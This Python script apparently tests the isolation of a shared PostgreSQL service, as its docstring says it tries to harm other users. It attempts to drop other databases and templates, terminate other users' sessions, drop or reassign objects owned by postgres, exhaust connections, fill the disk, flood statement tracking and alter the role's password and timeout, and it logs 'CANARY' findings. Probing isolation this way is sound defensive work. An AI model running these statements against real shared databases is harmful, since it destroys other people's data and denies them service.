"""Tries to harm whoever else uses PostgreSQL: their databases, their sessions, the templates, the disk, the slots."""

import threading

import stores
import vault

found = []
postgres = stores.Postgres()
names = [row[0] for row in postgres.run("SELECT datname FROM pg_database")]
for name in {*names, "template0", "template1", "postgres"} - {postgres.run("SELECT current_database()")[0][0]}:
    if vault.tried(lambda: stores.Postgres(database=name)):
        found.append(f"CANARY {name}")
    if vault.tried(lambda: postgres.run(f'DROP DATABASE "{name}"')):
        found.append(f"CANARY dropped {name}")
for statement in (
    "SELECT 1 / count(*) FILTER (WHERE pg_terminate_backend(pid)) FROM pg_stat_activity WHERE usename <> current_user",
    "SELECT 1 / count(*) FROM pg_stat_activity WHERE usename <> current_user AND query NOT LIKE '<%' AND query <> ''",
    "DROP OWNED BY postgres",
    "REASSIGN OWNED BY postgres TO CURRENT_USER",
):
    if vault.tried(lambda: postgres.run(statement)):
        found.append(f"CANARY {statement}")
held = []
while len(held) < 300 and vault.tried(lambda: held.append(stores.Postgres())):
    pass
if len(held) >= 240:
    found.append("CANARY all sessions")


def fill():
    """Fill the disk."""
    postgres.run("CREATE TABLE filler (t text)")
    postgres.run("ALTER TABLE filler ALTER t SET STORAGE PLAIN")
    for _ in range(200):  # of 32 MiB each
        postgres.run("INSERT INTO filler SELECT repeat('x', 8000) FROM generate_series(1, 4096)")
    print("CANARY 6 GiB were written", flush=True)


def flood():
    """Have whoever counts statements remember too many."""
    other = held[0]
    while True:
        other.run("SELECT '" + "\U0001f600" * 9000 + "'")


for work in (fill, flood):
    threading.Thread(target=vault.tried, args=(work,), daemon=True).start()
threading.Event().wait(8)
vault.tried(lambda: held[1].run("ALTER ROLE CURRENT_USER PASSWORD 'changed'"))
vault.tried(lambda: held[1].run("ALTER ROLE CURRENT_USER SET statement_timeout = 1"))
vault.carry_off(found)
